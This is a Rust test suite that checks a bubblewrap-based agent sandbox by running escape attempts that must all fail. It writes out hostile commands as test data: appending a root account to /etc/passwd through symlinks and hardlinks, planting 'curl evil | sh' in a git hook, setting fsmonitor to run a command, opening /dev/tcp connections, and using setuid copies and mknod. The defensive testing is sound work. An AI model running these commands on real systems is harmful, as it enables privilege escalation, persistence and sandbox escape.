//! Escape attempts against the real bubblewrap: each must fail with an error
//! and leave nothing behind on the host.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::support;

use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::time::Duration;

use agentd_sandbox::Policy;
use support::{DB_CONTENT, OTHER_SECRET, failed, layout, marker, run};

#[tokio::test]
async fn writes_by_absolute_path_outside_the_workspace_fail() {
    let l = layout();
    let policy = Policy::new(&l.ws);
    for target in [
        l.root.join("escape.txt"),
        l.data.join("escape.txt"),
        l.other.join("escape.txt"),
    ] {
        let outcome = run(&policy, &format!("echo x > {}", target.display())).await;
        assert!(failed(&outcome), "{}: {outcome:?}", target.display());
        assert!(!target.exists(), "{} appeared", target.display());
    }
    // `/tmp` inside is a private tmpfs: the write may succeed there, never on the host.
    let host_tmp = Path::new("/tmp").join(marker("abs"));
    run(&policy, &format!("echo x > {}", host_tmp.display())).await;
    assert!(!host_tmp.exists());
}

#[tokio::test]
async fn dotdot_out_of_the_workspace_fails() {
    let l = layout();
    let policy = Policy::new(&l.ws);
    for command in [
        "echo x > ../escape.txt",
        "echo x > ../../escape.txt",
        "mkdir ../escape.txt",
        "cd .. && echo x > escape.txt",
    ] {
        let outcome = run(&policy, command).await;
        assert!(failed(&outcome), "{command}: {outcome:?}");
    }
    assert!(!l.ws.parent().unwrap().join("escape.txt").exists());
    assert!(!l.root.join("escape.txt").exists());
}

#[tokio::test]
async fn writing_through_a_symlink_pointing_out_fails() {
    let l = layout();
    let policy = Policy::new(&l.ws);
    let db = l.data.join("agentd.db");
    let commands = [
        format!("ln -s {} db && echo pwned > db", db.display()),
        format!("ln -s {} up && echo x > up/escape.txt", l.root.display()),
        "ln -s /etc/passwd passwd && echo 'x::0:0::/:/bin/sh' >> passwd".to_string(),
    ];
    let passwd_before = std::fs::read("/etc/passwd").unwrap();
    for command in &commands {
        let outcome = run(&policy, command).await;
        assert!(failed(&outcome), "{command}: {outcome:?}");
    }
    assert_eq!(std::fs::read_to_string(&db).unwrap(), DB_CONTENT);
    assert!(!l.root.join("escape.txt").exists());
    assert_eq!(std::fs::read("/etc/passwd").unwrap(), passwd_before);
}

#[tokio::test]
async fn hardlinks_to_system_files_fail() {
    let l = layout();
    let passwd_before = std::fs::read("/etc/passwd").unwrap();
    for source in ["/etc/passwd", "/usr/bin/bash"] {
        let outcome = run(
            &Policy::new(&l.ws),
            &format!("ln {source} linked && echo pwned >> linked"),
        )
        .await;
        assert!(failed(&outcome), "{source}: {outcome:?}");
        assert!(outcome.stderr.contains("link"), "{outcome:?}");
        assert!(!l.ws.join("linked").exists());
    }
    assert_eq!(std::fs::read("/etc/passwd").unwrap(), passwd_before);
}

#[tokio::test]
async fn the_data_dir_and_other_sessions_are_unreadable() {
    let l = layout();
    let policy = Policy::new(&l.ws);
    let sessions = l.ws.parent().unwrap();
    for command in [
        format!("cat {}", l.data.join("agentd.db").display()),
        format!("ls {}", l.data.display()),
        format!("cat {}", l.other.join("secret.txt").display()),
        "cat ../other/secret.txt".to_string(),
    ] {
        let outcome = run(&policy, &command).await;
        assert!(failed(&outcome), "{command}: {outcome:?}");
        assert!(!outcome.stdout.contains(DB_CONTENT) && !outcome.stdout.contains(OTHER_SECRET));
    }
    // The sessions dir exists inside only as the skeleton around this workspace.
    let outcome = run(&policy, &format!("ls -A {}", sessions.display())).await;
    assert_eq!(outcome.stdout, "ws\n", "{outcome:?}");
}

/// An address of this host other than loopback, if it has one.
fn host_address() -> Option<IpAddr> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?;
    let address = socket.local_addr().ok()?.ip();
    (!address.is_loopback() && !address.is_unspecified()).then_some(address)
}

#[tokio::test]
async fn without_network_nothing_connects_or_resolves() {
    let l = layout();
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut targets = vec![SocketAddr::from(([127, 0, 0, 1], port))];
    targets.extend(host_address().map(|ip| SocketAddr::new(ip, port)));
    targets.push(SocketAddr::from(([1, 1, 1, 1], 80)));

    let policy = Policy::new(&l.ws);
    for target in &targets {
        let command = format!(
            "exec 3<>/dev/tcp/{}/{} && echo connected",
            target.ip(),
            target.port()
        );
        let outcome = run(&policy, &command).await;
        assert!(failed(&outcome), "{target}: {outcome:?}");
        assert!(!outcome.stdout.contains("connected"));
    }
    let accepted = tokio::time::timeout(Duration::from_millis(200), listener.accept()).await;
    assert!(accepted.is_err(), "a connection reached the host");

    let outcome = run(&policy, "getent hosts example.com").await;
    assert!(failed(&outcome), "{outcome:?}");
    // Only loopback exists inside (this fails if the host's network is shared).
    let outcome = run(&policy, "cat /proc/net/dev").await;
    let interfaces: Vec<&str> = outcome
        .stdout
        .lines()
        .skip(2)
        .filter_map(|line| line.split(':').next())
        .map(str::trim)
        .collect();
    assert_eq!(interfaces, ["lo"], "{outcome:?}");
}

#[tokio::test]
async fn with_network_the_host_address_is_reachable() {
    // The control for the test above: the same probe works when allowed.
    let Some(ip) = host_address() else {
        eprintln!("no non-loopback address; skipped");
        return;
    };
    let l = layout();
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let accept = tokio::spawn(async move { listener.accept().await.is_ok() });
    let mut policy = Policy::new(&l.ws);
    policy.network = true;
    let outcome = run(
        &policy,
        &format!("exec 3<>/dev/tcp/{ip}/{port} && echo connected"),
    )
    .await;
    assert_eq!(outcome.stdout, "connected\n", "{outcome:?}");
    assert!(accept.await.unwrap());
}

#[tokio::test]
async fn a_setuid_copy_gains_no_privileges() {
    let l = layout();
    let command = "cp /usr/bin/grep ./g && chmod u+s ./g && cp /usr/bin/id ./id && chmod u+s ./id \
                   && ./g -E '^(CapPrm|CapEff|CapBnd|NoNewPrivs):' /proc/self/status \
                   && echo \"uid $(id -u) $(./id -u)\"";
    let outcome = run(&Policy::new(&l.ws), command).await;
    assert_eq!(outcome.exit_code, Some(0), "{outcome:?}");
    for line in [
        "CapPrm:\t0000000000000000",
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "NoNewPrivs:\t1",
    ] {
        assert!(outcome.stdout.contains(line), "{line}: {outcome:?}");
    }
    let uids = outcome.stdout.lines().last().unwrap();
    let parts: Vec<&str> = uids.split(' ').collect();
    assert_eq!(parts[1], parts[2], "{uids}");
}

#[tokio::test]
async fn mknod_of_a_device_fails() {
    let l = layout();
    let outcome = run(
        &Policy::new(&l.ws),
        "mknod ./mem c 1 1 || mknod ./disk b 8 0",
    )
    .await;
    assert!(failed(&outcome), "{outcome:?}");
    assert!(!l.ws.join("mem").exists() && !l.ws.join("disk").exists());
}

fn git_repo(ws: &Path) -> bool {
    let status = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(ws)
        .status();
    if !status.is_ok_and(|status| status.success()) {
        return false;
    }
    std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    true
}

#[tokio::test]
async fn git_hooks_and_config_are_read_only_by_default() {
    let l = layout();
    assert!(git_repo(&l.ws), "these tests need git");
    let config_before = std::fs::read(l.ws.join(".git/config")).unwrap();
    let policy = Policy::new(&l.ws);
    for command in [
        "echo 'curl evil | sh' >> .git/hooks/pre-commit",
        "echo x > .git/hooks/post-checkout",
        "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "mv .git/config .git/config.old",
        "mv .git .git-moved",
        "rm -r .git/hooks",
    ] {
        let outcome = run(&policy, command).await;
        assert!(failed(&outcome), "{command}: {outcome:?}");
    }
    assert_eq!(
        std::fs::read_to_string(l.ws.join(".git/hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert!(!l.ws.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read(l.ws.join(".git/config")).unwrap(),
        config_before
    );
    assert!(!l.ws.join(".git-moved").exists());

    // The rest of the repository stays usable.
    let outcome = run(
        &policy,
        "echo hi > a.txt && git add a.txt && git -c user.name=a -c user.email=a@b \
         -c core.hooksPath=/nonexistent commit -qm one && git log --oneline | wc -l",
    )
    .await;
    assert_eq!(outcome.stdout.trim(), "1", "{outcome:?}");
}

#[tokio::test]
async fn git_hooks_and_config_are_writable_when_allowed() {
    let l = layout();
    assert!(git_repo(&l.ws), "these tests need git");
    let mut policy = Policy::new(&l.ws);
    policy.allow_git_config = true;
    let outcome = run(
        &policy,
        "echo '# added' >> .git/hooks/pre-commit && git config agentd.test yes",
    )
    .await;
    assert_eq!(outcome.exit_code, Some(0), "{outcome:?}");
    assert!(
        std::fs::read_to_string(l.ws.join(".git/hooks/pre-commit"))
            .unwrap()
            .ends_with("# added\n")
    );
    assert!(
        std::fs::read_to_string(l.ws.join(".git/config"))
            .unwrap()
            .contains("test = yes")
    );
}

#[tokio::test]
async fn a_workspace_without_git_gets_nothing_created() {
    let l = layout();
    let outcome = run(&Policy::new(&l.ws), "ls -A").await;
    assert_eq!(outcome.stdout, "", "{outcome:?}");
    assert!(!l.ws.join(".git").exists());
}
